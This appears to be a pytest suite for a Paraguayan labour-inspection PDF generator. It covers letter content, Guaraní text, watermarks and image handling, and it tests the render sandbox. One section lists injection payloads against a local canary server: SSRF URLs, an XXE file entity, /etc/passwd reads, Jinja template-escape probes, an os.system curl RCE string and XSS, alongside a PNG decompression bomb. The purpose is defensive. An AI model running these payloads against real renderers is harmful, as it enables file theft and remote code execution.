"""Documents: what the letters say, what hostile text and templates cannot do, what proves a copy."""

import hashlib
import io
import os
import re
import struct
import subprocess
import sys
import time
import unicodedata
import zlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, date, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pypdf
import pytest
from PIL import Image

from app.core.errors import RuleBroken
from app.documents import images, letters, pool, render, verify

CODE = "K7QM2XRT"
ADDRESS = "https://sis.example.gov.py/v/K7QM2XRT"
QR = {"qr": verify.qr_png(ADDRESS)}
MOMENT = datetime(2026, 11, 26, 14, 45, tzinfo=UTC)

PAPER = letters.Paper(
    issued_on=date(2026, 11, 24),
    place="Asunción",
    office="Dirección Regional de Trabajo",
    legal_basis=("Constitución Nacional, artículo 99.", "Ley N° 5115/13, artículo 16."),
    number="OI-2026-000123",
    case_file="2026-12015001-016535",
    verification_code=CODE,
    verification_address=ADDRESS,
)
EMPLOYER = letters.Employer("Yvyrarã Ñemby S.A.", ruc="80009735-1", trade_name="Aserradero Tatag̃uasu")
ESTABLISHMENT = letters.Establishment("Avda. Estigarribia 1234", "Ñemby", "Central", "Casa central")
INSPECTORS = (
    letters.Person("Ana Mbarakajá Ñúñez", "1234567", "Inspectora", "INS-0012", leader=True),
    letters.Person("Ỹvoty Pẽixoto", "3456789", "Inspector", "INS-0034"),
)
HER = letters.Signature("Ana Mbarakajá Ñúñez", "Inspectora actuante", identity="1234567", signed_at=MOMENT)
HIM = letters.Signature("Carlos Benítez", "Por la parte empleadora", refused="Consultará con su abogado")

ORDER = letters.OrderLetter(
    PAPER,
    start_mode="de oficio, por plan anual",
    kind="De establecimiento",
    matters=("Jornada y descansos", "Seguridad social"),
    inspectors=INSPECTORS,
    valid_from=date(2026, 11, 24),
    valid_until=date(2026, 12, 24),
    signature=letters.Signature("María Garcete", "Máxima Autoridad Institucional", "Ministra"),
    employer=EMPLOYER,
    establishments=(ESTABLISHMENT,),
    period_from=date(2025, 11, 1),
    period_until=date(2026, 10, 31),
)
RECORD = letters.RecordLetter(
    replace(PAPER, number="ACT-INS-R11-2026-000045"),
    order_number="OI-2026-000123",
    order_date=date(2026, 11, 24),
    visit_kind="Inicial",
    started_at=datetime(2026, 11, 26, 11, 30, tzinfo=UTC),
    ended_at=MOMENT,
    employer=EMPLOYER,
    establishment=ESTABLISHMENT,
    inspectors=INSPECTORS,
    signatures=(HER, HIM),
    attended_by=letters.Person("Carlos Benítez", "2345678", "Encargado"),
    headcounts=(letters.Headcount("Total", 31, 9, 40), letters.Headcount("Adolescentes", 1, None, None)),
    documents_seen=("Planilla del IPS",),
    documents_requested=("Libro de empleados",),
    documents_due=date(2026, 12, 3),
    answers=tuple(letters.Answer(f"Pregunta {n}", "Cumple", "Visto") for n in range(1, 31)),
    findings=(letters.Finding("Siete trabajadores sin IPS.", "Decreto-Ley 1860/50", "Grave", 7, "IPS-01"),),
    measures=(letters.Measure("Suspensión de la sierra.", "Dispuesta", "Peligro inminente"),),
    narrative="Se recorre el establecimiento.",
    employer_statement="Que está en trámite.",
    copy_means="en papel",
)
REQUIREMENT = letters.RequirementLetter(
    replace(PAPER, number="REQ-REG-R11-2026-000031"),
    record_number="ACT-INS-R11-2026-000045",
    record_date=date(2026, 11, 26),
    order_number="OI-2026-000123",
    employer=EMPLOYER,
    establishment=ESTABLISHMENT,
    requirements=(
        letters.Requirement("Inscribir en el IPS.", "DL 1860/50", "10 días hábiles", date(2026, 12, 11)),
    ),
    signature=HER,
    receipt=HIM,
    where_to_answer="Mesa de Entrada",
    handed_over_at=MOMENT,
)
LETTERS: dict[str, letters.Letter] = {
    "order.html": ORDER,
    "inspection_record.html": RECORD,
    "requirement.html": REQUIREMENT,
}
TITLES = ("Orden de inspección", "Acta de inspección", "Requerimiento de regularización")


@pytest.fixture(scope="module", autouse=True)
def _children() -> Iterator[None]:
    render.warm_up()
    yield
    render.shut_down()


def made(name: str, letter: letters.Letter | None = None, **options: object) -> bytes:
    html = letters.compose(name, (letter or LETTERS[name]).as_context())
    return render.render(html, title=name, images=QR, **options)  # type: ignore[arg-type]


def pages(pdf: bytes) -> list[str]:
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    return [unicodedata.normalize("NFC", page.extract_text()) for page in reader.pages]


def words(pdf: bytes) -> str:
    return " ".join(" ".join(pages(pdf)).split())


def failure(source: str, **options: object) -> render.RenderFailed:
    with pytest.raises(render.RenderFailed) as caught:
        render.render_letter(source, {}, title="x", **options)  # type: ignore[arg-type]
    return caught.value


# What the letters say


def test_order_has_the_minimum_content() -> None:
    text = words(made("order.html"))
    for part in (
        "República del Paraguay",
        "Ministerio de Trabajo, Empleo y Seguridad Social",
        "Dirección General de Inspección y Fiscalización del Trabajo",
        "Orden de inspección",
        "N° OI-2026-000123",
        "Asunción, 24 de noviembre de 2026",
        "de oficio, por plan anual",
        "Yvyrarã Ñemby S.A.",
        "80009735-1",
        "Avda. Estigarribia 1234, Ñemby, Central",
        "Jornada y descansos",
        "del 01/11/2025 al 31/10/2026",
        "Ỹvoty Pẽixoto",
        "3.456.789",
        "INS-0012",
        "del 24/11/2026 al 24/12/2026",
        "Ley N° 5115/13, artículo 16.",
        "María Garcete",
        "K7QM-2XRT",
        ADDRESS,
    ):
        assert part in text, part


def test_record_has_findings_measures_statements_and_the_refusal() -> None:
    text = words(made("inspection_record.html"))
    for part in (
        "ACT-INS-R11-2026-000045",
        "siendo las 08:30 horas",
        "siendo las 11:45 horas",
        "Carlos Benítez, CI N° 2.345.678, Encargado",
        "31 9 40",
        "Planilla del IPS",
        "3 de diciembre de 2026",
        "Siete trabajadores sin IPS.",
        "Suspensión de la sierra.",
        "Que está en trámite.",
        "SE NEGÓ A FIRMAR",
        "Consultará con su abogado",
        "Firmado electrónicamente 26/11/2026 11:45",
        "Pregunta 30",
    ):
        assert part in text, part
    assert "1. Identificación" in text and "2. Trabajadores" in text and "8. Lista de verificación" in text


def test_requirement_has_obligation_term_and_delivery() -> None:
    text = words(made("requirement.html"))
    for part in (
        "REQ-REG-R11-2026-000031",
        "10 días hábiles",
        "Vence: 11/12/2026",
        "Notificado 26/11/2026 11:45",
    ):
        assert part in text, part


def test_guarani_letters_are_drawn_and_extracted() -> None:
    html = "<html><body style='font-family: Arial'><p>g̃ ẽ ỹ ñ ã ĩ õ ũ G̃ Ẽ Ỹ Ñ</p><p><b>Mbaʼérepa</b> <i>ko'ẽ</i></p></body></html>"
    decomposed = unicodedata.normalize("NFD", html)
    for source in (html, decomposed):
        pdf = render.render(source, title="g")
        assert "g̃ ẽ ỹ ñ ã ĩ õ ũ G̃ Ẽ Ỹ Ñ" in words(pdf)
        assert "Mbaʼérepa ko'ẽ" in words(pdf)
    fonts = set()
    for page in pypdf.PdfReader(io.BytesIO(pdf)).pages:
        fonts |= {str(font.get_object()["/BaseFont"]) for font in page["/Resources"]["/Font"].values()}  # type: ignore[index]
    assert any("DejaVuSans" in font for font in fonts)


def test_pages_are_numbered_and_carry_number_and_code() -> None:
    found = pages(made("inspection_record.html"))
    assert len(found) > 1
    for position, text in enumerate(found, 1):
        assert f"Página {position} de {len(found)}" in text
        assert "ACT-INS-R11-2026-000045" in text and "K7QM-2XRT" in text


def test_page_count_of_xhtml2pdf_works_too() -> None:
    html = "<html><body>{}<p><pdf:pagenumber> de <pdf:pagecount></p></body></html>"
    assert re.search(r"2 ?de 2", words(render.render(html.format("<pdf:nextpage/>"), title="x")))


def test_signatures_are_never_alone_on_a_page() -> None:
    for extra in range(0, 40, 3):
        letter = replace(REQUIREMENT, extension_rule="Línea de relleno. " * extra * 12)
        last = pages(made("requirement.html", letter))[-1]
        assert "Carlos Benítez" in last
        assert "Apercibimiento" in last, f"{extra}: the last words are not with the signatures"
        assert "Ana Mbarakajá" in last


def test_draft_has_no_number_no_code_no_qr() -> None:
    pdf = made("order.html", replace(ORDER, paper=replace(PAPER, number=None)))
    text = words(pdf)
    assert "BORRADOR" in text and "no produce efectos jurídicos" in text
    assert "OI-2026" not in text and "K7QM" not in text and "Código de verificación" not in text
    assert len(pypdf.PdfReader(io.BytesIO(pdf)).pages[0].images) == 1  # the emblem


def test_watermark_is_on_every_page_and_absent_without_it() -> None:
    for name in LETTERS:
        marked = pages(made(name, watermark="CAPACITACIÓN"))
        assert all("CAPACITACIÓN" in text for text in marked)
        assert not any("CAPACITACIÓN" in text for text in pages(made(name)))


def test_metadata_title_and_language() -> None:
    reader = pypdf.PdfReader(io.BytesIO(made("order.html", moment=MOMENT)))
    assert reader.metadata is not None
    assert reader.metadata.title == "Orden de inspección OI-2026-000123"
    assert reader.metadata.creation_date == MOMENT
    assert reader.trailer["/Root"]["/Lang"] == "es-PY"  # type: ignore[index]


def test_same_letter_gives_same_bytes_in_another_child() -> None:
    first = [made(name, watermark="CAPACITACIÓN", moment=MOMENT) for name in LETTERS]
    render.shut_down()
    again = [made(name, watermark="CAPACITACIÓN", moment=MOMENT) for name in reversed(LETTERS)]
    assert first == again[::-1]
    assert verify.content_hash(first[0]) == hashlib.sha256(first[0]).hexdigest()


def test_drawn_signature_and_photo_are_shown() -> None:
    ink = images.safe_image(picture("PNG", "RGBA", (300, 100)))
    shot = images.safe_image(picture("JPEG", "RGB", (800, 600)))
    letter = replace(
        RECORD,
        signatures=(replace(HER, image="ink"), HIM),
        photos=(letters.Photo("shot", "Sierra sin resguardo", "ab" * 32, MOMENT),),
    )
    html = letters.compose("inspection_record.html", letter.as_context())
    pdf = render.render(html, title="x", images={**QR, "ink": ink, "shot": shot})
    assert "Sierra sin resguardo, 26/11/2026 11:45" in words(pdf)
    shown = {image.name for page in pypdf.PdfReader(io.BytesIO(pdf)).pages for image in page.images}
    assert len(shown) == 4  # emblem, QR, signature, photograph


def test_missing_image_fails_the_document() -> None:
    assert failure('<img src="sis-image:nobody">').code == "image_missing"


# Hostile text and templates


class Canary(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        Canary.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        return


@pytest.fixture(scope="module")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """A server that counts, and a file that must not be read."""
    folder = tmp_path_factory.mktemp("canary")
    secret = folder / "secret.txt"
    secret.write_text("CANARIO-DE-ARCHIVO", encoding="utf-8")
    (folder / "secret.png").write_bytes(picture("PNG", "RGB", (40, 40)))
    (folder / "secret.css").write_text("p:before { content: 'CANARIO-DE-ARCHIVO' }", encoding="utf-8")
    server = ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", secret
    server.shutdown()
    server.server_close()


def payloads(host: str, secret: Path) -> list[str]:
    web, png, css = f"http://{host}", secret.with_suffix(".png"), secret.with_suffix(".css")
    addresses = [
        f"{web}/a.png",
        f"HTTP://{host}/b.png",
        f"//{host}/c.png",
        str(png),
        f"file://{png}",
        f"../../../..{png}",
    ]
    found = [f'<img src="{address}">' for address in addresses]
    found += [
        f"<style>@import url({address});</style>" for address in (f"{web}/a.css", str(css), f"file://{css}")
    ]
    found += [f'<link rel="stylesheet" href="{address}">' for address in (f"{web}/b.css", str(css))]
    found += [
        f"<style>@font-face {{ font-family: z; src: url({address}) }} p {{ font-family: z }}</style><p>z</p>"
        for address in (f"{web}/z.ttf", str(secret), "/etc/passwd")
    ]
    found += [
        f"<style>@page {{ background-image: url({address}) }}</style>"
        for address in (f"{web}/bg.png", f"{web}/bg.pdf", str(png), f"file://{png}")
    ]
    found += [f"<p style=\"background: url('{address}')\">x</p>" for address in (f"{web}/s.png", str(png))]
    found += [
        f'<table background="{web}/t.png"><tr><td>x</td></tr></table>',
        f'<pdf:insertpdf src="{web}/i.pdf" />',
        '<pdf:insertpdf src="/etc/passwd" />',
        f'<pdf:font name="q" src="{web}/q.ttf" />',
        f'<svg><image href="{web}/v.png" width="9" height="9"/></svg>',
        f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{web}/d.png"/></svg>\'>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]><p>&e;</p>',
        f'<object data="{web}/o.pdf"></object>',
        f'<iframe src="{web}/f.html"></iframe>',
        f'<embed src="{web}/e.swf">',
        f'<input type="image" src="{web}/n.png">',
        f'<ul style="list-style-image: url({web}/l.png)"><li>x</li></ul>',
        f'<base href="{web}/"><img src="base.png">',
        f"<font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('curl {web}/rce') for Word in [str]]]]\">x</font>",
        "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
        f"{{% include '{secret}' %}}",
        "{{ self.__init__.__globals__ }}",
        f"<script>fetch('{web}/js')</script>",
        "<p style=\"content: '" + "\\" * 36 + "'\">x</p>",
        f'"><img src=x onerror="{web}">',
    ]
    return found


def replaced(value: object, text: str, key: str = "") -> object:
    """The same context with `text` in every text field (ids of images apart)."""
    if isinstance(value, dict):
        return {name: replaced(item, text, name) for name, item in value.items()}
    if isinstance(value, list):
        return [replaced(item, text, key) for item in value]
    if key == "identity":
        return text
    return text if isinstance(value, str) and key not in ("image", "verification_code") else value


def squeezed(text: str) -> str:
    return re.sub(r"\s", "", unicodedata.normalize("NFC", text))


def test_hostile_text_in_every_field_is_printed_and_reaches_nothing(canary: tuple[str, Path]) -> None:
    Canary.hits.clear()
    hostile = payloads(*canary)
    assert len(hostile) >= 40
    groups = [hostile[start : start + 5] for start in range(0, len(hostile), 5)]
    jobs = []
    for group in groups:
        for name, letter in LETTERS.items():
            short = replace(letter, answers=RECORD.answers[:1]) if letter is RECORD else letter
            context = replaced(short.as_context(), " ".join(group))
            jobs.append(render.Job(name, letters.compose(name, context), images=QR))  # type: ignore[arg-type]
    results = render.render_many(jobs)
    assert Canary.hits == []
    for position, pdf in enumerate(results):
        group = groups[position // len(LETTERS)]
        assert isinstance(pdf, bytes), (group, pdf)
        text = words(pdf)
        assert "CANARIO" not in text and "root:x:" not in text
        assert squeezed(" ".join(group)) in squeezed(text)
        shown = {image.name for page in pypdf.PdfReader(io.BytesIO(pdf)).pages for image in page.images}
        assert len(shown) == 2  # emblem and QR


def test_hostile_markup_of_a_template_reaches_nothing(canary: tuple[str, Path]) -> None:
    Canary.hits.clear()
    hostile = [text for text in payloads(*canary) if "{" not in text or "<style>" in text]
    jobs = [
        render.Job("x", f"<html><body><p>antes</p>{text}<p>después</p></body></html>") for text in hostile
    ]
    results = render.render_many(jobs)
    assert Canary.hits == []
    for text, pdf in zip(hostile, results, strict=True):
        if isinstance(pdf, bytes):
            assert "CANARIO" not in words(pdf) and "root:x:" not in words(pdf), text
            assert not any(page.images for page in pypdf.PdfReader(io.BytesIO(pdf)).pages), text


def test_long_words_emoji_and_control_characters_are_text() -> None:
    long = "Ñandutĩ" * 80
    text = f"{long} 👷🏽 漢 a\x00b\x07c \u202e129-LPN \ud800 \ufffe fin"
    letter = replace(RECORD, narrative=text, employer=replace(EMPLOYER, name=text))
    found = squeezed(words(made("inspection_record.html", letter)))
    assert found.count(long) == 2
    # What the font cannot draw is named, because an empty box could be anything.
    assert found.count("[U+1F477][U+1F3FD][U+6F22]abc129-LPNfin") == 2


def test_long_document_is_made_whole() -> None:
    """Past 100 KB xhtml2pdf works on temporary files, which the sealed child must be able to make."""
    html = "".join(f"<p>párrafo {n} de texto corriente</p>" for n in range(4000))
    found = words(render.render(html, title="x"))
    assert "párrafo 0 de" in found and "párrafo 3999 de" in found


@pytest.mark.parametrize(
    "source",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ paper | safe }}",
        "{% if %}",
        "{{ 1/0 }}",
    ],
)
def test_template_that_escapes_or_errs_is_refused(source: str) -> None:
    assert failure(source).code in ("template", "template_field")


def test_template_with_an_unknown_field_says_so() -> None:
    error = failure("{{ paper.numero }}")
    assert error.code == "template_field" and "paper" in error.detail
    assert error.message.startswith("La plantilla usa un dato")


def test_template_reads_no_file_beside_the_templates() -> None:
    assert failure("{% include '../sis/base.html' %}").code == "template"
    assert failure("{% include '/etc/passwd' %}").code == "template"


def test_template_that_never_ends_is_killed_in_time() -> None:
    began = time.monotonic()
    error = failure(
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}", timeout=1
    )
    assert error.code == "timeout" and "tardó demasiado" in error.message
    assert time.monotonic() - began < 6
    assert made("order.html")[:5] == b"%PDF-"


def test_template_that_takes_all_memory_is_refused() -> None:
    assert failure("{{ 'a' * 3000000000 }}").code == "memory"
    assert failure("{% set a = range(99999) | list %}{{ (a * 9999) | length }}").code == "memory"
    assert failure("{% for a in range(9000) %}" + "x" * 2000 + "{% endfor %}").code == "too_large"


def test_sealed_child_has_no_network_no_programs_and_no_foreign_files(tmp_path: Path) -> None:
    code = (
        "import sys; sys.path.insert(0, sys.argv[1])\n"
        "from app.documents import child\n"
        "import os, socket, subprocess\n"
        "child.seal()\n"
        "tries = [lambda: open('/etc/passwd'), lambda: os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT),\n"
        "  lambda: open(child.APP.parent / 'config.py'), lambda: open(child.APP / 'x', 'w'),\n"
        "  lambda: open('/proc/self/environ'), lambda: socket.create_connection(('127.0.0.1', 9)),\n"
        "  lambda: socket.getaddrinfo('localhost', 80), lambda: subprocess.run(['true']), lambda: os.system('true'),\n"
        "  lambda: os.fork()]\n"
        "for n, one in enumerate(tries):\n"
        "  try: one(); print(n)\n"
        "  except PermissionError: pass\n"
        "open(child.FONTS / 'DejaVuSans.ttf', 'rb').close()\n"
        "print('sealed')"
    )
    foreign = str(tmp_path / "x")
    folder = tmp_path / "own"
    folder.mkdir()
    done = subprocess.run(
        [sys.executable, "-I", "-c", code, str(pool.ROOT), foreign],
        env={"TMPDIR": str(folder)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout.split() == ["sealed"], done.stderr


def test_child_gets_no_variable_of_ours(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql://secret")
    child = pool.Child()
    try:
        environment = Path(f"/proc/{child.process.pid}/environ").read_bytes()
    finally:
        child.end()
    assert b"secret" not in environment
    assert not Path(child.folder).exists()


# Images


def picture(kind: str, mode: str, size: tuple[int, int]) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (200, 30, 30) if mode == "RGB" else (0, 0, 90, 120)).save(out, kind)
    return out.getvalue()


def bomb(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that says it has `width` x `height` pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 9000))
        + chunk(b"IEND", b"")
    )


def test_image_bomb_is_refused_at_both_doors() -> None:
    for size in ((50_000, 50_000), (9_000, 9_000)):
        with pytest.raises(images.ImageRefused):
            images.safe_image(bomb(*size))
        with pytest.raises(render.RenderFailed) as caught:
            render.render('<img src="sis-image:x">', title="x", images={"x": bomb(*size)})
        assert caught.value.code == "image"


@pytest.mark.parametrize(
    "data", [b"", b"<svg/>", b"%PDF-1.4", b"GIF89a" + b"\0" * 40, b"\xff\xd8\xff\xe0" + b"\0" * 40]
)
def test_file_that_is_no_photograph_is_refused(data: bytes) -> None:
    with pytest.raises(images.ImageRefused) as caught:
        images.safe_image(data, field="photo")
    assert caught.value.field == "photo"


def test_photograph_is_reencoded_without_metadata_and_reduced() -> None:
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif[0x8825] = {1: "S", 2: (25.0, 17.0, 0.0)}
    Image.new("RGB", (3000, 1500), "white").save(out, "JPEG", exif=exif)
    with Image.open(io.BytesIO(images.safe_image(out.getvalue()))) as picture_again:
        assert picture_again.size == (800, 1600)
        assert not picture_again.getexif()


# The pool


def test_twenty_threads_get_each_its_own_document() -> None:
    def one(number: int) -> bool:
        html = f"<html><body><p>Documento número {number} de veinte</p></body></html>"
        return f"Documento número {number} de veinte" in words(render.render(html, title=str(number)))

    with ThreadPoolExecutor(20) as threads:
        assert all(threads.map(one, range(20)))


def test_batch_keeps_order_reports_progress_and_survives_a_failure() -> None:
    jobs = [render.Job("x", f"<html><body><p>carta {n}</p></body></html>") for n in range(6)]
    jobs[3] = render.Job("x", source="{{ nothing }}")
    seen: list[tuple[int, int]] = []
    results = render.render_many(jobs, lambda done, total: seen.append((done, total)))
    assert seen == [(n, 6) for n in range(1, 7)]
    assert isinstance(results[3], render.RenderFailed)
    assert all(f"carta {n}" in words(pdf) for n, pdf in enumerate(results) if isinstance(pdf, bytes))
    assert render.render_many([]) == []


def test_child_that_dies_is_an_error_once_and_replaced() -> None:
    own = pool.Pool(1)
    try:
        request = render.Job("x", "<p>x</p>").request()
        assert own.render(request, 20)
        (child,) = own._all
        child.process.kill()
        child.process.wait()
        assert own.render(request, 20)[:5] == b"%PDF-"
        (child,) = own._all
        Thread(target=lambda: (time.sleep(0.3), child.process.kill())).start()
        endless = render.Job(
            "x", source="{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
        )
        with pytest.raises(render.RenderFailed) as caught:
            own.render(endless.request(), 20)
        assert caught.value.code == "died" and "pruebe de nuevo" in caught.value.message
    finally:
        own.close()
    assert not own._all


def test_forked_process_has_its_own_children() -> None:
    before = made("order.html")
    there = os.fork()
    if there == 0:  # what a server that loads first and forks later does
        good = made("order.html") == before
        render.shut_down()
        os._exit(0 if good else 1)
    assert os.waitstatus_to_exitcode(os.waitpid(there, 0)[1]) == 0
    assert made("order.html") == before


def test_children_end_when_their_parent_is_killed() -> None:
    code = (
        "import sys, time; sys.path.insert(0, sys.argv[1])\n"
        "from app.documents import render\n"
        "render.render('<p>x</p>', title='x')\n"
        "print(next(iter(render._pool._all)).process.pid, flush=True); time.sleep(60)"
    )
    parent = subprocess.Popen([sys.executable, "-c", code, str(pool.ROOT)], stdout=subprocess.PIPE, text=True)
    assert parent.stdout is not None
    child = int(parent.stdout.readline())
    parent.kill()
    parent.wait()
    parent.stdout.close()
    for _ in range(50):
        status = Path(f"/proc/{child}/stat")
        if not status.exists() or status.read_text().split()[2] == "Z":
            return
        time.sleep(0.1)
    pytest.fail("the child outlived its parent")


# What proves a copy


def test_codes_are_unambiguous_and_do_not_repeat() -> None:
    codes = {verify.verification_code() for _ in range(2000)}
    assert len(codes) == 2000
    assert all(re.fullmatch(r"[2-9A-HJKMNP-Z]{8}", code) for code in codes)


@pytest.mark.parametrize("text", ["K7QM2XRT", "k7qm-2xrt", " K7QM 2XRT\n", "k7qm–2xrt"])
def test_code_is_read_as_people_write_it(text: str) -> None:
    assert verify.normalise_code(text) == CODE
    assert verify.printed_code(CODE) == "K7QM-2XRT"


@pytest.mark.parametrize("text", ["", "K7QM2XR", "K7QM2XRT9", "K7QM2XR0", "K7QM2XRÑ", "K7QM2XR'"])
def test_code_that_cannot_be_is_refused_with_words(text: str) -> None:
    with pytest.raises(RuleBroken) as caught:
        verify.normalise_code(text, "code")
    assert caught.value.code == "verification_code" and caught.value.field == "code"


def test_qr_is_a_small_square_and_always_the_same() -> None:
    assert verify.qr_png(ADDRESS) == verify.qr_png(ADDRESS)
    with Image.open(io.BytesIO(verify.qr_png(ADDRESS))) as square:
        assert square.size[0] == square.size[1] and square.getpixel((0, 0)) != 0
